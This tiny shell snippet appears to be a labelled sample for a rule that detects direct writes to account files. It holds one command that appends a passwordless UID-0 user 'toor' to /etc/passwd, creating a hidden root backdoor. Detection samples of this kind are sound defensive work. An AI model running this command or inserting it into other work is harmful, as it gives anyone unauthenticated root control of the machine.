# what: a second root is written into the list of users
# rules: Account files written directly
echo 'toor::0:0::/root:/bin/sh' >>/etc/passwd
